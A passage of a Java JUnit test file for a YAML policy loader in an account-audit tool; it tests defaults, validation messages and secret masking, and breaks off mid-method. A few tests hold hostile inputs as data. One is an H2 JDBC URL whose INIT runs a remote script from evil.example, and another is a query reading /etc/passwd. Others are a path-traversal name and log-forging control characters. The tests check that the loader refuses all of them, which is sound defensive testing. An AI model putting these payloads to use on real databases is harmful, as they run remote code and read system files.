package dev.healthaudit.policy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.healthaudit.finding.Finding;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

class PolicyLoaderTests {

	private static final String PRODUCT_EXAMPLE = """
			name: nightly
			source: { type: csv, path: jobs/accounts.csv }
			scalekit: { requests-per-minute: 3000, read-timeout: 20s, tool-timeout: 60s }
			concurrency: 32
			retry: { max-attempts: 5, max-backoff: 30s }
			remediation: { refresh: true, authorization-links: true }
			connections:
			  gmail:
			    required-scopes: [https://www.googleapis.com/auth/gmail.readonly]
			    probe: { tool: gmail_get_profile, params: {} }
			    rate-limit: 20
			fail-on: none
			""";

	private static final String MINIMAL = """
			name: minimal
			source: { type: csv, path: accounts.csv }
			connections:
			  gmail:
			    probe: { tool: gmail_get_profile }
			""";

	@TempDir
	Path directory;

	@Test
	void loadProductExampleBindsEveryKey() throws Exception {
		Path file = write("nightly.yml", PRODUCT_EXAMPLE);

		AuditPolicy policy = PolicyLoader.load(file, Map.of());

		assertThat(policy.name()).isEqualTo("nightly");
		assertThat(policy.file()).isEqualTo(file.toString());
		assertThat(policy.digest()).isEqualTo(sha256(Files.readAllBytes(file)));
		assertThat(policy.source()).isEqualTo(new SourceSettings.Csv(Path.of("jobs/accounts.csv")));
		assertThat(((SourceSettings.Csv) policy.source()).path().isAbsolute()).isFalse();
		assertThat(policy.scalekit()).isEqualTo(
				new ScalekitSettings(3000, Duration.ofSeconds(5), Duration.ofSeconds(20), Duration.ofSeconds(60)));
		assertThat(policy.concurrency()).isEqualTo(32);
		assertThat(policy.retry()).isEqualTo(new RetrySettings(5, Duration.ofMillis(500), Duration.ofSeconds(30)));
		assertThat(policy.remediation()).isEqualTo(new RemediationSettings(true, true));
		assertThat(policy.connections()).containsOnlyKeys("gmail");
		assertThat(policy.connection("gmail"))
			.contains(new ConnectionPolicy("gmail", List.of("https://www.googleapis.com/auth/gmail.readonly"),
					new ProbeSettings("gmail_get_profile", Map.of()), 20));
		assertThat(policy.failOn()).isEmpty();
		assertThat(policy.allowedWriteTools()).isEmpty();
	}

	@Test
	void loadMinimalPolicyAppliesDefaults() throws IOException {
		AuditPolicy policy = load(MINIMAL);

		assertThat(policy.scalekit()).isEqualTo(ScalekitSettings.defaults());
		assertThat(policy.scalekit()).isEqualTo(
				new ScalekitSettings(600, Duration.ofSeconds(5), Duration.ofSeconds(20), Duration.ofSeconds(60)));
		assertThat(policy.concurrency()).isEqualTo(8);
		assertThat(policy.retry()).isEqualTo(new RetrySettings(4, Duration.ofMillis(500), Duration.ofSeconds(30)));
		assertThat(policy.remediation()).isEqualTo(new RemediationSettings(true, false));
		ConnectionPolicy gmail = policy.connection("gmail").orElseThrow();
		assertThat(gmail.requiredScopes()).isEmpty();
		assertThat(gmail.probe().params()).isEmpty();
		assertThat(gmail.rateLimit()).isEqualTo(10);
		assertThat(policy.failOn()).isEmpty();
		assertThat(policy.allowedWriteTools()).isEmpty();
		assertThat(policy.connection("slack")).isEmpty();
	}

	@Test
	void loadReadsDurationsInSpringNotation() throws IOException {
		AuditPolicy policy = load(MINIMAL + """
				scalekit: { connect-timeout: 1500ms, read-timeout: 2m, tool-timeout: PT90S }
				retry: { initial-backoff: 250ms, max-backoff: 1m }
				""");

		assertThat(policy.scalekit().connectTimeout()).isEqualTo(Duration.ofMillis(1500));
		assertThat(policy.scalekit().readTimeout()).isEqualTo(Duration.ofMinutes(2));
		assertThat(policy.scalekit().toolTimeout()).isEqualTo(Duration.ofSeconds(90));
		assertThat(policy.retry().initialBackoff()).isEqualTo(Duration.ofMillis(250));
		assertThat(policy.retry().maxBackoff()).isEqualTo(Duration.ofMinutes(1));
	}

	@Test
	void loadKeepsConnectionNamesAsWrittenAndInFileOrder() throws IOException {
		AuditPolicy policy = load("""
				name: names
				source: { type: scalekit, connection-names: ["Google Mail:prod", slack] }
				connections:
				  slack:
				    probe: { tool: slack_auth_test }
				  Google Mail:prod:
				    probe: { tool: gmail_get_profile }
				    rate-limit: 2.5
				  MS_365-eu:
				    probe: { tool: outlook_mailbox_settings_get }
				""");

		assertThat(policy.connections().keySet()).containsExactly("slack", "Google Mail:prod", "MS_365-eu");
		assertThat(policy.connection("Google Mail:prod").orElseThrow().rateLimit()).isEqualTo(2.5);
		assertThat(policy.connection("MS_365-eu").orElseThrow().probe().tool())
			.isEqualTo("outlook_mailbox_settings_get");
		assertThat(policy.source().type()).isEqualTo(SourceType.SCALEKIT);
		assertThat(((SourceSettings.ScalekitList) policy.source()).connectionNames())
			.containsExactly("Google Mail:prod", "slack");
	}

	@Test
	void loadKeepsProbeParamsVerbatim() throws IOException {
		AuditPolicy policy = load("""
				name: params
				source: { type: csv, path: a.csv }
				connections:
				  gmail:
				    probe:
				      tool: gmail_list_messages
				      params:
				        user_id: me
				        maxResults: 1
				        since: 2024-01-01
				        includeSpamTrash: false
				        labelIds: [INBOX, UNREAD]
				        filter: { q: "is:unread", nested: { Deep_Key: 2.5 } }
				""");

		Map<String, Object> params = policy.connection("gmail").orElseThrow().probe().params();
		assertThat(params).containsExactly(Map.entry("user_id", "me"), Map.entry("maxResults", 1),
				Map.entry("since", "2024-01-01"), Map.entry("includeSpamTrash", false),
				Map.entry("labelIds", List.of("INBOX", "UNREAD")),
				Map.entry("filter", Map.of("q", "is:unread", "nested", Map.of("Deep_Key", 2.5))));
		assertThatThrownBy(() -> params.put("x", 1)).isInstanceOf(UnsupportedOperationException.class);
		assertThatThrownBy(() -> ((Map<String, Object>) params.get("filter")).put("x", 1))
			.isInstanceOf(UnsupportedOperationException.class);
	}

	@Test
	void loadAcceptsFailOnFindingInAnyCase() throws IOException {
		assertThat(load(MINIMAL + "fail-on: under_scoped\n").failOn()).contains(Finding.UNDER_SCOPED);
		assertThat(load(MINIMAL + "fail-on: DISCONNECTED\n").failOn()).contains(Finding.DISCONNECTED);
		assertThat(load(MINIMAL + "fail-on: NONE\n").failOn()).isEmpty();
	}

	@Test
	void loadBindsEnumsCaseInsensitively() throws IOException {
		AuditPolicy policy = load(MINIMAL.replace("type: csv", "type: CSV"));

		assertThat(policy.source().type()).isEqualTo(SourceType.CSV);
	}

	@Test
	void loadWhenTopLevelKeyUnknownNamesFileLineAndKey() throws IOException {
		Path file = write("typo.yml", MINIMAL + "concurency: 4\n");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + " line 6: unknown key 'concurency'")
			.satisfies((ex) -> assertThat(ex.file()).isEqualTo(file.toString()));
	}

	@Test
	void loadWhenNestedKeyUnknownNamesFileLineAndKey() throws IOException {
		Path file = write("typo.yml", """
				name: nightly
				source: { type: csv, path: a.csv }
				connections:
				  gmail:
				    probe:
				      tool: gmail_get_profile
				      toool: gmail_get_profile
				""");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + " line 7: unknown key 'connections.gmail.probe.toool'");
	}

	@Test
	void loadWhenSectionKeyUnknownNamesIt() throws IOException {
		assertThat(problems(MINIMAL + "scalekit: { read-timout: 5s }\nsource2: x\n"))
			.containsExactly("line 6: unknown key 'scalekit.read-timout'", "line 7: unknown key 'source2'");
	}

	@Test
	void loadWhenValueHasWrongTypeNamesKeyAndExpectation() throws IOException {
		Path file = write("jobs.yml", """
				name: nightly
				source: { type: csv, path: a.csv }
				concurrency: abc
				connections:
				  gmail:
				    probe: { tool: gmail_get_profile }
				""");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + " line 3: invalid value 'abc' for 'concurrency' (expected an integer)");
	}

	@Test
	void loadWhenValuesHaveWrongTypesReportsEach() throws IOException {
		assertThat(problems(MINIMAL.replace("type: csv", "type: ftp") + """
				scalekit: { read-timeout: soon }
				remediation: { refresh: maybe }
				retry: { max-attempts: 2.x }
				""")).containsExactly(
				"line 2: invalid value 'ftp' for 'source.type' (expected one of csv, scalekit, jdbc)",
				"line 6: invalid value 'soon' for 'scalekit.read-timeout' (expected a duration such as 500ms, 5s or 2m)",
				"line 7: invalid value 'maybe' for 'remediation.refresh' (expected true or false)",
				"line 8: invalid value '2.x' for 'retry.max-attempts' (expected an integer)");
	}

	@Test
	void loadWhenConnectionValueHasWrongTypeNamesConnectionKey() throws IOException {
		assertThat(problems(MINIMAL + "    rate-limit: fast\n"))
			.containsExactly("line 6: invalid value 'fast' for 'connections.gmail.rate-limit' (expected a number)");
	}

	@Test
	void loadWhenDurationHasNoUnitRefusesIt() throws IOException {
		assertThat(problems(MINIMAL + "scalekit: { read-timeout: 20 }\n")).containsExactly(
				"line 6: invalid value '20' for 'scalekit.read-timeout' (expected a duration with a unit such as 500ms, 5s or 2m)");
	}

	@Test
	void loadWhenKeyHasNoValueSaysSo() throws IOException {
		assertThat(problems(MINIMAL + "concurrency:\nscalekit: { tool-timeout: }\n")).containsExactly(
				"line 6: 'concurrency' has no value (set one, or remove the key to use the default)",
				"line 7: 'scalekit.tool-timeout' has no value (set one, or remove the key to use the default)");
	}

	@Test
	void loadWhenConnectionIsNotMappingOrHasUnknownKeyNamesIt() throws IOException {
		assertThat(problems(
				MINIMAL + "  slack: slack_auth_test\n  Teams EU:\n    probe: { tool: teams_me_get }\n    name: x\n"))
			.containsExactly("line 6: 'connections.slack' must be a mapping with probe, required-scopes and rate-limit",
					"line 9: unknown key 'connections.Teams EU.name'");
	}

	@Test
	void loadWhenIntegerSettingHasFractionRefusesIt() throws IOException {
		assertThat(problems(MINIMAL + "concurrency: 2.5\nretry: { max-attempts: 3.0 }\n")).containsExactly(
				"line 6: invalid value '2.5' for 'concurrency' (expected an integer)",
				"line 7: invalid value '3.0' for 'retry.max-attempts' (expected an integer)");
	}

	@Test
	void loadWhenNumbersOutOfRangeReportsEach() throws IOException {
		assertThat(problems(MINIMAL + """
				    rate-limit: -1
				concurrency: 0
				scalekit: { requests-per-minute: -5, connect-timeout: 0s, tool-timeout: -1s }
				retry: { max-attempts: 21, initial-backoff: 10s, max-backoff: 5s }
				""")).containsExactly(
				"line 6: invalid value '-1.0' for 'connections.gmail.rate-limit' (expected probe requests per second, from 0.01 to 100000)",
				"line 7: invalid value '0' for 'concurrency' (expected 1 to 512)",
				"line 8: invalid value '-5' for 'scalekit.requests-per-minute' (expected a number greater than 0)",
				"line 8: invalid value 'PT0S' for 'scalekit.connect-timeout' (expected a positive duration such as 500ms, 5s or 2m)",
				"line 8: invalid value 'PT-1S' for 'scalekit.tool-timeout' (expected a positive duration such as 500ms, 5s or 2m)",
				"line 9: invalid value '21' for 'retry.max-attempts' (expected 1 to 20)",
				"line 9: 'retry.max-backoff' (PT5S) must not be shorter than 'retry.initial-backoff' (PT10S)");
	}

	@Test
	void loadWhenRateLimitBeyondWhatABucketCanRefillNamesFileLineAndKey() throws IOException {
		// 10^12 per second used to pass the policy and fail inside the rate limiter,
		// naming nothing
		Path file = write("huge.yml", MINIMAL + "    rate-limit: 1e12\n");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + " line 6: invalid value '1.0E12' for 'connections.gmail.rate-limit' (expected probe "
					+ "requests per second, from 0.01 to 100000)");
		assertThat(problems(MINIMAL + "    rate-limit: 1e-9\n")).containsExactly(
				"line 6: invalid value '1.0E-9' for 'connections.gmail.rate-limit' (expected probe requests per second, from 0.01 to 100000)");
		assertThat(load(MINIMAL + "    rate-limit: 100000\n").connection("gmail").orElseThrow().rateLimit())
			.isEqualTo(100_000);
	}

	@Test
	void loadWhenDurationsWouldParkOrOverflowTheJobRefusesThem() throws IOException {
		assertThat(problems(MINIMAL + """
				scalekit: { read-timeout: 11m, tool-timeout: 9999999999d }
				retry: { initial-backoff: 2h, max-backoff: 3d }
				""")).containsExactly(
				"line 6: invalid value 'PT11M' for 'scalekit.read-timeout' (expected at most 10m)",
				"line 6: invalid value 'PT239999999976H' for 'scalekit.tool-timeout' (expected at most 10m)",
				"line 7: invalid value 'PT2H' for 'retry.initial-backoff' (expected at most 1h)",
				"line 7: invalid value 'PT72H' for 'retry.max-backoff' (expected at most 1h)");
		assertThat(load(MINIMAL + "scalekit: { tool-timeout: 10m }\nretry: { max-backoff: 1h }\n").retry().maxBackoff())
			.isEqualTo(Duration.ofHours(1));
	}

	@Test
	void loadWhenFileIsLargerThanOneMebibyteRefusesItBeforeParsing() throws IOException {
		// one comment line: every byte counts, comments too
		Path file = write("big.yml", MINIMAL + "# " + "x".repeat(10 * 1024 * 1024) + "\n");

		long started = System.nanoTime();
		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + ": the policy file has " + Files.size(file) + " bytes; a policy may have at most "
					+ "1048576 bytes (1 MiB), comments included");
		assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(2));
		String justOver = MINIMAL + "#" + "x".repeat(PolicyLoader.MAX_BYTES - MINIMAL.length() - 1) + "\n";
		assertThat(justOver).hasSize(PolicyLoader.MAX_BYTES + 1);
		assertThatExceptionOfType(InvalidPolicyException.class)
			.isThrownBy(() -> PolicyLoader.load(write("over.yml", justOver), Map.of()))
			.withMessageContaining("has 1048577 bytes");
	}

	@Test
	void loadOfAPolicyOfOneMebibyteOfShortLinesEndsInSeconds() throws IOException {
		String line = "# " + "x".repeat(97) + "\n";
		String comments = line.repeat((PolicyLoader.MAX_BYTES - MINIMAL.length()) / line.length());
		Path file = write("limit.yml", MINIMAL + comments);
		assertThat(Files.size(file)).isGreaterThan(PolicyLoader.MAX_BYTES - line.length());

		long started = System.nanoTime();
		assertThat(PolicyLoader.load(file, Map.of()).name()).isEqualTo("minimal");
		assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(5));
	}

	@Test
	void loadWhenALineIsLongerThanAnyPolicyNeedsRefusesItBeforeParsing() throws IOException {
		// the parser's time grows with the square of a line's length: seconds for 1 MiB
		Path file = write("long.yml", MINIMAL + "\r\n# " + "x".repeat(PolicyLoader.MAX_BYTES / 2) + "\n");

		long started = System.nanoTime();
		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + " line 7: the line has " + (PolicyLoader.MAX_BYTES / 2 + 2) + " bytes; a policy line "
					+ "may have at most 16384");
		assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(2));
		assertThat(load(MINIMAL + "# " + "x".repeat(PolicyLoader.MAX_LINE_BYTES - 2) + "\n").name())
			.isEqualTo("minimal");
	}

	@Test
	void loadWhenPolicyIsNotARegularFileRefusesItWithoutReading() throws Exception {
		assertThatExceptionOfType(InvalidPolicyException.class)
			.isThrownBy(() -> PolicyLoader.load(this.directory, Map.of()))
			.withMessage(this.directory + ": is a directory, not a policy file");
		Path device = Path.of("/dev/zero");
		assumeTrue(Files.exists(device));
		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(device, Map.of()))
			.withMessage(device + ": is not a regular file (a pipe, a device or a socket)");
	}

	@Test
	void loadWhenProbeToolRunsAWriteVerbTogetherRefusesIt() throws IOException {
		assertThat(problems(MINIMAL.replace("gmail_get_profile", "gmail_sendmessage"))).containsExactly(
				"line 5: connections.gmail.probe.tool 'gmail_sendmessage' looks like a write (token 'send'); probes "
						+ "must be read-only. List it under allowed-write-tools to allow it.");
	}

	@Test
	void loadWhenJdbcSourceCouldRunCodeOrReadFilesNamesFileLineKeyAndWhy() throws IOException {
		Path file = write("jdbc.yml", """
				name: crm
				source:
				  type: jdbc
				  url: "jdbc:h2:mem:crm;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql';PASSWORD=hunter22"
				  password: hunter22
				  query: "select file_read('/etc/passwd') as identifier, 'gmail' as connection_name"
				connections:
				  gmail:
				    probe: { tool: gmail_get_profile }
				""");

		InvalidPolicyException refused = catchThrowableOfType(InvalidPolicyException.class,
				() -> PolicyLoader.load(file, Map.of()));
		assertThat(refused.problems()).containsExactly(file + " line 4: 'source.url' sets H2's INIT, which runs SQL "
				+ "when the database opens (RUNSCRIPT from a file or URL, CREATE ALIAS with Java code): a policy must "
				+ "not run code in the job (allowed: "
				+ String.join(", ", JdbcSourceRules.H2_SETTINGS.stream().sorted().toList()) + ")",
				file + " line 6: 'source.query' calls FILE_READ, which reads or writes files of the job's machine; "
						+ "a source query reads tables only");
		assertThat(refused.getMessage()).doesNotContain("hunter22");
	}

	@Test
	void loadWhenJdbcSourceOpensAnEmbeddedH2FileRefusesIt() throws IOException {
		assertThat(problems("""
				name: crm
				source: { type: jdbc, url: "jdbc:h2:./data/audit", query: "select * from audit_result" }
				connections:
				  gmail:
				    probe: { tool: gmail_get_profile }
				""")).containsExactly("line 2: 'source.url' opens an embedded H2 database file ('./data/audit'): its "
				+ "engine would run inside the job with the job's file access (it could open the job's own "
				+ "results, which hold authorization links); use an H2 server (jdbc:h2:tcp://host/db) or "
				+ "PostgreSQL");
	}

	@Test
	void loadWhenValuesAreLongOrHoldControlCharactersQuotesShortEscapedExcerpts() throws IOException {
		String forged = "x\\e[2J\\n2026-01-01 INFO forged line " + "y".repeat(5000);
		List<String> problems = problems(MINIMAL.replace("name: minimal", "name: \"" + forged + "\"")
			.replace("gmail_get_profile", "\"gmail_send\\nINFO all good\"") + "concurrency: \"" + forged + "\"\n");

		assertThat(problems).hasSize(3)
			.allSatisfy((
					problem) -> assertThat(problem).hasSizeLessThan(300).doesNotContain("\n").doesNotContain("\u001B"));
		assertThat(problems).anySatisfy((problem) -> assertThat(problem)
			.startsWith("line 1: invalid value 'x\\u001B[2J\\u000A2026-01-01 INFO forged line " + "y".repeat(26)
					+ "... (5034 characters)' for 'name'"));
		assertThat(problems).anySatisfy(
				(problem) -> assertThat(problem).contains("'gmail_send\\u000AINFO all good' looks like a write"));
	}

	@Test
	void loadWhenAListHoldsAListOrMappingNamesTheElement() throws IOException {
		assertThat(problems(MINIMAL + "allowed-write-tools: [[a], { b: 1 }]\n")).containsExactly(
				"line 6: unknown key 'allowed-write-tools[0][0]'", "line 6: unknown key 'allowed-write-tools[1].b'");
	}

	@Test
	void loadWhenConcurrencyAboveLimitRefusesIt() throws IOException {
		assertThat(problems(MINIMAL + "concurrency: 513\n"))
			.containsExactly("line 6: invalid value '513' for 'concurrency' (expected 1 to 512)");
		assertThat(load(MINIMAL + "concurrency: 512\n").concurrency()).isEqualTo(512);
	}

	@Test
	void loadWhenProbeToolMissingNamesKey() throws IOException {
		assertThat(problems("""
				name: nightly
				source: { type: csv, path: a.csv }
				connections:
				  gmail:
				    probe: { params: { a: 1 } }
				  slack:
				    required-scopes: [users:read]
				  notion:
				    probe: { tool: " " }
				""")).containsExactly(
				"line 5: 'connections.gmail.probe.tool' is required: the read-only tool run against each account (for example gmail_get_profile)",
				"line 7: 'connections.slack.probe.tool' is required: the read-only tool run against each account (for example gmail_get_profile)",
				"line 9: 'connections.notion.probe.tool' is required: the read-only tool run against each account (for example gmail_get_profile)");
	}

	@Test
	void loadWhenFailOnUnknownListsAllowedValues() throws IOException {
		assertThat(problems(MINIMAL + "fail-on: broken\n")).containsExactly(
				"line 6: invalid value 'broken' for 'fail-on' (expected none or one of NOT_FOUND, DISCONNECTED, EXPIRED, "
						+ "PROBE_UNAUTHORIZED, PENDING_AUTH, PENDING_VERIFICATION, CONNECTION_MISCONFIGURED, "
						+ "ADMIN_ACTION_REQUIRED, UNDER_SCOPED, PROBE_FORBIDDEN, UNKNOWN_STATUS, INCONCLUSIVE, REFRESHED, HEALTHY)");
	}

	@Test
	void loadWhenProbeToolLooksLikeWriteRefusesIt() throws IOException {
		Path file = write("x.yml", MINIMAL.replace("gmail_get_profile", "gmail_send_email"));

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + " line 5: connections.gmail.probe.tool 'gmail_send_email' looks like a write (token "
					+ "'send'); probes must be read-only. List it under allowed-write-tools to allow it.");
	}

	@Test
	void loadWhenWriteToolIsAllowListedAcceptsIt() throws IOException {
		AuditPolicy policy = load(
				MINIMAL.replace("gmail_get_profile", "gmail_send_email") + "allowed-write-tools: [gmail_send_email]\n");

		assertThat(policy.connection("gmail").orElseThrow().probe().tool()).isEqualTo("gmail_send_email");
		assertThat(policy.allowedWriteTools()).containsExactly("gmail_send_email");
	}

	@Test
	void probeSafetySplitsSnakeKebabDottedAndCamelCaseNames() {
		assertThat(ProbeSafety.writeToken("slack.chat.postMessage")).contains("post");
		assertThat(ProbeSafety.writeToken("HTTPPutObject")).contains("put");
		assertThat(ProbeSafety.writeToken("github-create-issue")).contains("create");
		assertThat(ProbeSafety.writeToken("gmailTrashMessage")).contains("trash");
		assertThat(ProbeSafety.writeToken("outlook_mailbox_settings_get")).isEmpty();
		assertThat(ProbeSafety.writeToken("github_user_get_authenticated")).isEmpty();
		assertThat(ProbeSafety.writeToken("slack_auth_test")).isEmpty();
		assertThat(ProbeSafety.writeToken("gmail_get_address_book")).isEmpty();
	}

	@Test
	void loadResolvesPlaceholdersFromSuppliedEnvironment() throws IOException {
		AuditPolicy policy = load("""
				name: ${POLICY_NAME}
				source:
				  type: jdbc
				  url: jdbc:postgresql://${DB_HOST}/crm
				  username: ${DB_USER:auditor}
				  password: ${DB_PASSWORD}
				  query: select identifier, connection_name from accounts
				concurrency: ${CONCURRENCY}
				connections:
				  gmail:
				    probe: { tool: gmail_get_profile, params: { user_id: "${GMAIL_USER}" } }
				""", Map.of("POLICY_NAME", "crm", "DB_HOST", "db.internal:5432", "DB_PASSWORD", "s3cret", "CONCURRENCY",
				"16", "GMAIL_USER", "me"));

		assertThat(policy.name()).isEqualTo("crm");
		assertThat(policy.source()).isInstanceOfSatisfying(SourceSettings.Jdbc.class, (jdbc) -> {
			assertThat(jdbc.url()).isEqualTo("jdbc:postgresql://db.internal:5432/crm");
			assertThat(jdbc.username()).isEqualTo("auditor");
			assertThat(jdbc.password()).isEqualTo("s3cret");
		});
		assertThat(policy.concurrency()).isEqualTo(16);
		assertThat(policy.connection("gmail").orElseThrow().probe().params())
			.containsExactly(Map.entry("user_id", "me"));
	}

	@Test
	void loadKeepsEscapedPlaceholderLiteral() throws IOException {
		AuditPolicy policy = load(MINIMAL.replace("{ tool: gmail_get_profile }",
				"{ tool: gmail_get_profile, params: { template: \"\\\\${literal}\" } }"));

		assertThat(policy.connection("gmail").orElseThrow().probe().params()).containsEntry("template", "${literal}");
	}

	@Test
	void loadWhenPlaceholderUnresolvableNamesKeyAndVariable() throws IOException {
		assertThat(problems("""
				name: crm
				source:
				  type: jdbc
				  url: jdbc:postgresql://db/crm
				  password: ${DB_PASSWORD}
				  query: select 1
				connections:
				  gmail:
				    probe: { tool: gmail_get_profile, params: { user_id: "${GMAIL_USER}" } }
				""")).containsExactly(
				"line 5: unresolvable placeholder '${DB_PASSWORD}' in 'source.password' (environment variable DB_PASSWORD is not set)",
				"line 9: unresolvable placeholder '${GMAIL_USER}' in 'connections.gmail.probe.params.user_id' (environment variable GMAIL_USER is not set)");
	}

	@Test
	void loadWhenJdbcSourceLacksUrlAndQueryNamesBoth() throws IOException {
		assertThat(problems(MINIMAL.replace("{ type: csv, path: accounts.csv }", "{ type: jdbc, username: u }")))
			.containsExactly("line 2: 'source.url' is required for source type jdbc",
					"line 2: 'source.query' is required for source type jdbc");
	}

	@Test
	void loadWhenCsvSourceLacksPathOrCarriesJdbcSettingsReportsThem() throws IOException {
		assertThat(problems(MINIMAL.replace("{ type: csv, path: accounts.csv }", "{ type: csv, query: select 1 }")))
			.containsExactly("line 2: 'source.path' is required for source type csv",
					"line 2: 'source.query' does not apply to source type csv; remove it");
	}

	@Test
	void loadWhenScalekitSourceListsTooManyOrBadNamesReportsThem() throws IOException {
		String names = String.join(", ", IntStream.rangeClosed(1, 21).mapToObj((i) -> "c" + i).toList());
		assertThat(problems(MINIMAL.replace("{ type: csv, path: accounts.csv }",
				"{ type: scalekit, connection-names: [" + names + ", \"bad/name\"] }")))
			.containsExactly("line 2: 'source.connection-names' lists 22 connections; at most 20 are allowed",
					"line 2: invalid connection name 'bad/name' in 'source.connection-names[21]' (expected 1 to 400 letters, digits, '_', ':', '-' or spaces)");
	}

	@Test
	void loadWhenRequiredSectionsMissingReportsEach() throws IOException {
		assertThat(problems("concurrency: 4\n")).containsExactly(
				"'name' is required (it names the run and its report files)",
				"'source' is required (type csv, scalekit or jdbc)",
				"'connections' is required: at least one connection with its probe (connections.<name>.probe.tool)");
	}

	@Test
	void loadWhenNamesInvalidReportsThem() throws IOException {
		assertThat(problems("""
				name: nightly/../../etc
				source: { type: csv, path: a.csv }
				connections:
				  gmail/prod:
				    probe: { tool: gmail_get_profile }
				""")).containsExactly(
				"line 1: invalid value 'nightly/../../etc' for 'name' (expected 1 to 64 letters, digits, '.', '_' or '-'; it is used in file names)",
				"line 5: invalid connection name 'gmail/prod' under 'connections' (expected 1 to 400 letters, digits, '_', ':', '-' or spaces)");
	}

	@Test
	void loadCollectsAllProblemsOnePerLine() throws IOException {
		Path file = write("many.yml", """
				name: nightly
				source: { type: csv }
				concurrency: lots
				retry: { max-attempts: 0 }
				connections:
				  gmail:
				    probe: { tool: gmail_delete_message, toool: x }
				fail-on: sometimes
				""");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.satisfies((ex) -> {
				assertThat(ex.problems()).hasSize(6)
					.allSatisfy((problem) -> assertThat(problem).startsWith(file + " line "));
				assertThat(ex.getMessage()).isEqualTo(String.join(System.lineSeparator(), ex.problems()));
				assertThat(ex.getMessage()).contains("line 2: 'source.path' is required",
						"line 3: invalid value 'lots'", "line 4: invalid value '0' for 'retry.max-attempts'",
						"line 7: unknown key 'connections.gmail.probe.toool'",
						"line 7: connections.gmail.probe.tool 'gmail_delete_message' looks like a write",
						"line 8: invalid value 'sometimes' for 'fail-on'");
			});
	}

	@Test
	void loadWhenFileMissingNamesIt() {
		Path file = this.directory.resolve("absent.yml");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + ": policy file not found");
	}

	@Test
	void loadWhenYamlMalformedNamesFileAndLine() throws IOException {
		Path file = write("broken.yml", "name: nightly\nsource: { type: csv\nconcurrency: 3\n");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessageStartingWith(file + " line ")
			.withMessageContaining("not valid YAML");
	}

	@Test
	void loadWhenKeyDuplicatedRefusesIt() throws IOException {
		Path file = write("dup.yml", MINIMAL + "name: other\n");

		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
			.withMessage(file + " line 6: not valid YAML: found duplicate key name");
	}

	@Test
	void loadWhenFileEmptyOrNotMappingRefusesIt() throws IOException {
		assertThatExceptionOfType(InvalidPolicyException.class)
			.isThrownBy(() -> PolicyLoader.load(write("empty.yml", "# nothing\n"), Map.of()))
			.withMessageEndingWith("empty.yml: the policy file is empty");
		assertThatExceptionOfType(InvalidPolicyException.class)
			.isThrownBy(() -> PolicyLoader.load(write("list.yml", "- a\n- b\n"), Map.of()))
			.withMessageContaining("a policy is a mapping of keys");
	}

	@Test
	void sourceSettingsToStringMasksPassword() throws IOException {
		AuditPolicy policy = load("""
				name: crm
				source: { type: jdbc, url: "jdbc:h2:mem:x", username: sa, password: hunter2, query: select 1 }
				connections:
				  gmail:
				    probe: { tool: gmail_get_profile }
				""");

		assertThat(((SourceSettings.Jdbc) policy.source()).password()).isEqualTo("hunter2");
		assertThat(policy.source().toString()).contains("password=****").doesNotContain("hunter2");
		assertThat(policy.toString()).doesNotContain("hunter2");
		AuditPolicy inUrl = load("""
				name: crm
				source: { type: jdbc, url: "jdbc:postgresql://db/crm?user=a&password=hunter2", query: select 1 }
				connections:
				  gmail:
				    probe: { tool: gmail_get_profile }
				""");
		assertThat(inUrl.toString()).contains("jdbc:postgresql://db/crm?user=a&password=****")
			.doesNotContain("hunter2");
	}

	@Test
	void withCsvSourceReplacesOnlyTheSource() throws IOException {
		AuditPolicy policy = load(MINIMAL.replace("{ type: csv, path: accounts.csv }", "{ type: scalekit }"));

		AuditPolicy replaced = policy.withCsvSource(Path.of("other.csv"));

		assertThat(replaced.source()).isEqualTo(new SourceSettings.Csv(Path.of("other.csv")));
		assertThat(replaced).usingRecursiveComparison().ignoringFields("source").isEqualTo(policy);
	}

	@Test
	void connectionsAreUnmodifiableAndKeepInsertionOrder() throws IOException {
		AuditPolicy policy = load(MINIMAL + "  slack:\n    probe: { tool: slack_auth_test }\n");

		assertThat(policy.connections().keySet()).containsExactly("gmail", "slack");
		assertThatThrownBy(() -> policy.connections().remove("gmail"))
			.isInstanceOf(UnsupportedOperationException.class);
	}

	@Test
	void everyShippedPolicyLoads() throws IOException {
		List<Path> policies = new ArrayList<>();
		try (DirectoryStream<Path> files = Files.newDirectoryStream(Path.of("jobs"), "*.yml")) {
			files.forEach(policies::add);
		}

